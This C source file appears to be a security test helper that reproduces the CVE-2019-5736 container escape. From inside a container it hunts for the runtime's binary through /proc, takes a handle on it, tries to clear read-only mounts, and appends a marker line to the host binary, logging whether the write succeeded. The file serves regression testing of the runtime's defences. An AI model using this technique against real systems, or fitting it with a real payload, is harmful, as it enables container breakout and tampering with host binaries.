/* exe_attack: the CVE-2019-5736 attack from inside a container, for tests/security/exe_overwrite.bats.
 * Built static (gcc -static) and copied into the container's rootfs.
 *
 *   exe_attack scan REPORT SECONDS NAME
 *     Scans /proc in a tight loop for the runtime's binary running in the container, as the
 *     kernel starts it when the runtime execs a file whose one line is `#!/proc/self/exe`: a
 *     process whose exe can be opened and either names NAME (the runtime's file name) or was
 *     started as /proc/self/exe (argv[0] of a script's interpreter). Takes an O_PATH fd on that
 *     exe, waits for the process to exit, then reopens the fd (/proc/self/fd/N)
 *     O_WRONLY|O_APPEND and appends a line.
 *   exe_attack hook PROCDIR REPORT SECONDS
 *     As a createContainer/startContainer hook: takes an O_PATH fd on PROCDIR/1/exe (the
 *     container's init, still the runtime), forks a background child and exits 0 at once; the
 *     child waits until the init has exec'd the user program, then tries the same write.
 *
 * Both write their findings to REPORT, one "key: value" per line, last "result: WRITTEN ..." or
 * "result: REFUSED ..." (or "result: NOTSEEN ..." when no runtime process showed up in time). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PAYLOAD "#OVERWRITTEN-FROM-A-CONTAINER\n"

static int report_fd = -1;

static void report(const char *fmt, ...) {
  char buf[1024];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(report_fd, buf, (size_t)n) < 0) _exit(3);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void fd_target(int fd, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(p, buf, len - 1);
  buf[n < 0 ? 0 : n] = '\0';
}

/* With CAP_SYS_ADMIN, first try to make the exe's mount writable: clear its read-only flag, or
 * clone it (a clone would be ours to change) and clear the clone's. Returns the fd to write
 * through: the clone when that worked, else exe_fd. */
static int try_unlock(int exe_fd) {
  struct mount_attr clr = {.attr_clr = MOUNT_ATTR_RDONLY};
  long r = syscall(SYS_mount_setattr, exe_fd, "", AT_EMPTY_PATH, &clr, sizeof clr);
  report("unlock: mount_setattr clear read-only: %s", r == 0 ? "done" : strerror(errno));
  int clone = (int)syscall(SYS_open_tree, exe_fd, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
  report("unlock: open_tree clone: %s", clone >= 0 ? "done" : strerror(errno));
  if (clone < 0) return exe_fd;
  r = syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &clr, sizeof clr);
  report("unlock: mount_setattr clear read-only on the clone: %s", r == 0 ? "done" : strerror(errno));
  return clone;
}

/* Reopen the held exe for writing and append. ETXTBSY means some process still executes the
 * file (the runtime on the host side): retry until the deadline. Returns the process's exit code. */
static int try_write(int exe_fd, double deadline) {
  exe_fd = try_unlock(exe_fd);
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", exe_fd);
  long busy = 0;
  for (;;) {
    int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY && now() < deadline) {
      busy++;
      usleep(1000);
      continue;
    }
    if (busy) report("text-busy-retries: %ld", busy);
    if (w < 0) {
      report("result: REFUSED open O_WRONLY: %s (errno %d)", strerror(errno), errno);
      return 0;
    }
    ssize_t n = write(w, PAYLOAD, sizeof PAYLOAD - 1);
    int err = errno;
    close(w);
    if (n > 0) {
      report("result: WRITTEN %zd bytes", n);
      return 0;
    }
    report("result: REFUSED write: %s (errno %d)", strerror(err), err);
    return 0;
  }
}

/* argv[0] of process pid, "" when unreadable (e.g. mid-exec). */
static void argv0_of(int proc, long pid, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "%ld/cmdline", pid);
  int fd = openat(proc, p, O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, len - 1);
  if (fd >= 0) close(fd);
  buf[n < 0 ? 0 : n] = '\0';
}

/* Took an fd on pid's exe and it is the runtime: report, wait for its exit, write. */
static int got_it(int fd, long pid, const char *link, const char *arg0, long rounds, double deadline) {
  report("saw: pid %ld exe %s argv0 %s after %ld rounds", pid, link, arg0, rounds);
  int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
  if (pidfd >= 0) {
    struct pollfd pf = {.fd = pidfd, .events = POLLIN};
    int left = (int)((deadline - now()) * 1000);
    if (left < 1) left = 1;
    if (poll(&pf, 1, left) != 1) report("note: pid %ld still running at the deadline", pid);
    close(pidfd);
  }
  report("exited: pid %ld", pid);
  return try_write(fd, deadline);
}

#define MAX_CAND 64
#define PROBES_PER_LISTING 64

/* A round lists /proc once (which also walks its ~60 non-pid entries), then probes the pids it
 * found and the next few to be handed out, many times: a probe is one openat. The runtime's
 * process shows up non-dumpable (EACCES) until its exec of the script makes it dumpable. */
static int scan(const char *seconds, const char *name) {
  double deadline = now() + atof(seconds);
  DIR *d = opendir("/proc");
  if (!d) {
    report("result: ERROR open /proc: %s", strerror(errno));
    return 2;
  }
  pid_t self = getpid();
  char link[4096], arg0[4096];
  long rounds = 0, opened = 0, cand[MAX_CAND];
  report("scanning: pid %d", (int)self);
  /* Also tell whoever waits on our stdout (the container's output). */
  if (write(1, "scanning\n", 9) < 0) { /* the report has it too */ }
  while (now() < deadline) {
    rounds++;
    int n = 0;
    long max = self;
    rewinddir(d);
    struct dirent *de;
    while ((de = readdir(d)) && n < MAX_CAND - 4) {
      char *end;
      long pid = strtol(de->d_name, &end, 10);
      if (*end || pid <= 0 || pid == self) continue;
      cand[n++] = pid;
      if (pid > max) max = pid;
    }
    for (int k = 1; k <= 4; k++) cand[n++] = max + k;
    for (int probe = 0; probe < PROBES_PER_LISTING; probe++) {
      for (int i = 0; i < n; i++) {
        char p[64];
        snprintf(p, sizeof p, "%ld/exe", cand[i]);
        /* O_PATH follows the magic link: the fd is the executable itself. */
        int fd = openat(dirfd(d), p, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        opened++;
        fd_target(fd, link, sizeof link);
        argv0_of(dirfd(d), cand[i], arg0, sizeof arg0);
        if (strstr(link, name) || strcmp(arg0, "/proc/self/exe") == 0)
          return got_it(fd, cand[i], link, arg0, rounds, deadline);
        close(fd);
      }
    }
  }
  report("result: NOTSEEN no runtime process (\"%s\" or /proc/self/exe) in %ld rounds "
         "(%ld exe links opened)", name, rounds, opened);
  return 1;
}

static int hook(const char *procdir, const char *seconds) {
  double deadline = now() + atof(seconds);
  char p[4200], link[4096], cur[4096];
  snprintf(p, sizeof p, "%s/1", procdir);
  /* Keep /proc/1 by fd: after pivot_root the host path of the rootfs means nothing here. */
  int init_dir = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (init_dir < 0) {
    report("result: ERROR open %s: %s", p, strerror(errno));
    return 0; /* never fail the hook: the test reads the report */
  }
  int fd = openat(init_dir, "exe", O_PATH | O_CLOEXEC);
  if (fd < 0) {
    report("result: REFUSED open O_PATH %s/exe: %s (errno %d)", p, strerror(errno), errno);
    return 0;
  }
  fd_target(fd, link, sizeof link);
  report("saw: pid 1 exe %s", link);
  pid_t child = fork();
  if (child < 0) {
    report("result: ERROR fork: %s", strerror(errno));
    return 0;
  }
  if (child > 0) return 0; /* the hook is done; the child carries on in the background */
  setsid();
  int null = open("/dev/null", O_RDWR | O_CLOEXEC);
  if (null >= 0) {
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
  }
  /* Wait for the init to exec the user program: /proc/1/exe then names something else. */
  for (;;) {
    ssize_t n = readlinkat(init_dir, "exe", cur, sizeof cur - 1);
    cur[n < 0 ? 0 : n] = '\0';
    if (n >= 0 && strcmp(cur, link) != 0) break;
    if (now() >= deadline) {
      report("result: NOTSEEN pid 1 never exec'd (exe still %s)", cur);
      _exit(0);
    }
    usleep(1000);
  }
  report("init exec'd: %s", cur);
  _exit(try_write(fd, deadline));
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "scan") == 0) {
    report_fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0644);
    if (report_fd < 0) return 2;
    return scan(argv[3], argv[4]);
  }
  if (argc == 5 && strcmp(argv[1], "hook") == 0) {
    report_fd = open(argv[3], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (report_fd < 0) return 2;
    return hook(argv[2], argv[4]);
  }
  fprintf(stderr, "usage: exe_attack scan REPORT SECONDS NAME | hook PROCDIR REPORT SECONDS\n");
  return 2;
}
